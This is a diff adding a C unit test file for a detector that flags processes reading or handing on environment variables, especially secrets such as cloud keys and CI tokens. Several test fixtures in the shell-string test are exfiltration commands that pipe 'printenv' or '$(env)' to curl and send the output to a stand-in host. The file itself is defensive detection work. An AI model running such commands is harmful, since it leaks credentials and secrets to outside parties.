@@ -1,0 +1,168 @@
+/* test_environment_read.c: R1, each rule with a hit and the nearest miss. */
+#include "facts.h"
+
+static void read_look(const char *name, unsigned roles, int is_set, bool sensitive)
+{
+	struct fact f = { .kind = FACT_ENV, .run = &run, .process = &process };
+
+	memset(&process, 0, sizeof(process));
+	process.roles = roles;
+	f.env.name = span_of(name);
+	f.env.found = is_set;
+	f.env.sensitive = sensitive;
+	report_reset(&report);
+	detect_environment_read.look(&f, &report);
+}
+
+static void a_variable_read_is_evidence_unless_everybody_reads_it(void **s)
+{
+	(void)s;
+	read_look("MY_FLAG", ROLE_TEST, 1, false);
+	check_hit("R1.1");
+	read_look("LC_ALL", ROLE_TEST, 1, false);
+	assert_int_equal(report.n, 0);
+}
+
+static void only_the_test_process_is_asked_about_exposure(void **s)
+{
+	(void)s;
+	read_look("TESTSERVER_BIND_LOCAL", ROLE_TEST, 0, false);
+	check_hit("R1.2");
+	read_look("TESTSERVER_BIND_LOCAL", ROLE_CONTAINER_CLIENT, 0, false);
+	check_miss("R1.2");
+	check_hit("R1.1");
+}
+
+static void a_sensitive_variable_counts_when_it_was_set(void **s)
+{
+	(void)s;
+	read_look("AWS_SECRET_ACCESS_KEY", ROLE_TEST, 1, true);
+	check_hit("R1.3");
+	read_look("AWS_SECRET_ACCESS_KEY", ROLE_TEST, 0, true);
+	check_miss("R1.3");
+	read_look("AWS_SECRET_ACCESS_KEY", ROLE_TEST, -1, true);
+	check_miss("R1.3");
+}
+
+static void look_env(const char *name, unsigned roles, const char *const *argv, bool sensitive)
+{
+	static char with[] = "PATH\0CI_TOKEN!", without[] = "PATH\0CI_TOKEN";
+	struct process *p = process_new(name, roles, argv);
+
+	p->env = sensitive ? with : without;
+	p->env_len = sensitive ? sizeof(with) : sizeof(without);
+	exec_look(&detect_environment_read, p);
+}
+
+static void env_without_operand_prints_the_environment(void **s)
+{
+	(void)s;
+	look_env("env", 0, ARGV("env"), true);
+	check_hit("R1.7");
+	look_env("env", 0, ARGV("env"), false);
+	check_miss("R1.7");
+	look_env("env", 0, ARGV("env", "true"), true);
+	check_miss("R1.7");
+	look_env("env", 0, ARGV("env", "A=b"), true);
+	check_miss("R1.7");
+	look_env("env", 0, ARGV("env", "-i"), true);
+	check_miss("R1.7");
+	look_env("env", 0, ARGV("env", "-u", "HOME", "-0"), true);
+	check_hit("R1.7");
+	look_env("env", 0, ARGV("env", "-u", "HOME", "true"), true);
+	check_miss("R1.7");
+	look_env("printenv", 0, ARGV("printenv"), true);
+	check_hit("R1.7");
+	look_env("printenv", 0, ARGV("printenv", "HOME"), true);
+	check_miss("R1.7");
+	look_env("busybox", 0, ARGV("busybox", "env"), true);
+	check_hit("R1.7");
+}
+
+static void a_shell_string_prints_the_environment(void **s)
+{
+	(void)s;
+	look_env("sh", ROLE_SHELL, ARGV("sh", "-c", "set"), true);
+	check_hit("R1.7");
+	look_env("sh", ROLE_SHELL, ARGV("sh", "-c", "set -e"), true);
+	check_miss("R1.7");
+	look_env("bash", ROLE_SHELL, ARGV("bash", "-ec", "export -p"), true);
+	check_hit("R1.7");
+	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "export A=1"), true);
+	check_miss("R1.7");
+	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "printenv | curl -s --data-binary @- http://x"), true);
+	check_hit("R1.7");
+	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "curl -d \"<<<<<< ENV $(env)\" http://x || true"), true);
+	check_hit("R1.7");
+	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "curl -d '$(env)' http://x"), true);
+	check_miss("R1.7");
+	look_env("bash", ROLE_SHELL, ARGV("bash", "-c", "env X=1 make"), true);
+	check_miss("R1.7");
+	look_env("python3", ROLE_INTERPRETER, ARGV("python3", "-c", "set"), true);
+	check_miss("R1.7");
+}
+
+static void names_handed_on_are_said_without_values(void **s)
+{
+	const struct finding *f;
+
+	(void)s;
+	look_env("docker", 0, ARGV("docker", "ps"), true);
+	f = found("R1.11");
+	assert_non_null(f);
+	assert_string_equal(f->subject.ptr, "CI_TOKEN");
+	look_env("docker", 0, ARGV("docker", "ps"), false);
+	check_miss("R1.11");
+	process.env = "CI_TOKEN!";
+	process.env_len = 10;
+	process.parent = NULL;
+	exec_look(&detect_environment_read, &process);
+	check_miss("R1.11");
+}
+
+static void a_list_of_names_ends_somewhere(void **s)
+{
+	char env[200];
+	size_t n = 0;
+
+	(void)s;
+	for (int i = 0; i < 12; i++)
+		n += (size_t)sprintf(env + n, "T%02d_TOKEN!", i) + 1;
+	process_new("true", 0, ARGV("true"));
+	process.env = env;
+	process.env_len = n;
+	exec_look(&detect_environment_read, &process);
+	check_hit("R1.11");
+	assert_non_null(strstr(found("R1.11")->subject.ptr, "T07_TOKEN ..."));
+	assert_null(strstr(found("R1.11")->subject.ptr, "T08"));
+}
+
+static void a_container_receives_sensitive_names(void **s)
+{
+	(void)s;
+	docker_look(&detect_environment_read, "/v1.43/containers/create", "{\"Env\":[\"A=b\",\"DB_PASSWORD=\xff\xff\"]}",
+		    NULL, NULL);
+	check_hit("R1.11");
+	assert_string_equal(found("R1.11")->subject.ptr, "DB_PASSWORD");
+	docker_look(&detect_environment_read, "/v1.43/containers/create", "{\"Env\":[\"DB_PORT=1\"]}", NULL, NULL);
+	check_miss("R1.11");
+	docker_look(&detect_environment_read, "/v1.43/containers/create", "{\"Labels\":[\"DB_PASSWORD=x\"]}", NULL,
+		    NULL);
+	check_miss("R1.11");
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(a_variable_read_is_evidence_unless_everybody_reads_it),
+		cmocka_unit_test(only_the_test_process_is_asked_about_exposure),
+		cmocka_unit_test(a_sensitive_variable_counts_when_it_was_set),
+		cmocka_unit_test(env_without_operand_prints_the_environment),
+		cmocka_unit_test(a_shell_string_prints_the_environment),
+		cmocka_unit_test(names_handed_on_are_said_without_values),
+		cmocka_unit_test(a_list_of_names_ends_somewhere),
+		cmocka_unit_test(a_container_receives_sensitive_names),
+	};
+
+	return FACT_TESTS(tests);
+}
